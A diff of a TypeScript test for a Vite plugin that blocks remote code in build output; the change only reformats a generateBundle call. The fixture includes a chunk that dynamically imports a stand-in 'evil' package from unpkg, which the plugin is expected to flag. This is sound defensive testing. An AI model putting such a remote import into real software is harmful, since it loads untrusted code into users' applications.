@@ -52,10 +52,14 @@ describe('the no-remote-code Vite plugin', () => {
     const errors: string[] = [];
     const ctx = { error: (message: string) => errors.push(message) };
     const generateBundle = plugin.generateBundle as (this: typeof ctx, o: unknown, b: Record<string, unknown>) => void;
-    generateBundle.call(ctx, {}, {
-      'chunks/a.js': { type: 'chunk', code: 'import("https://unpkg.com/evil@1/index.js")' },
-      'chunks/b.js': { type: 'chunk', code: 'const ok = "/runtime/ort/";' },
-    });
+    generateBundle.call(
+      ctx,
+      {},
+      {
+        'chunks/a.js': { type: 'chunk', code: 'import("https://unpkg.com/evil@1/index.js")' },
+        'chunks/b.js': { type: 'chunk', code: 'const ok = "/runtime/ort/";' },
+      },
+    );
     expect(errors).toHaveLength(1);
     expect(errors[0]).toContain('chunks/a.js: https://unpkg.com/evil@1/index.js');
     expect(errors[0]).not.toContain('chunks/b.js');
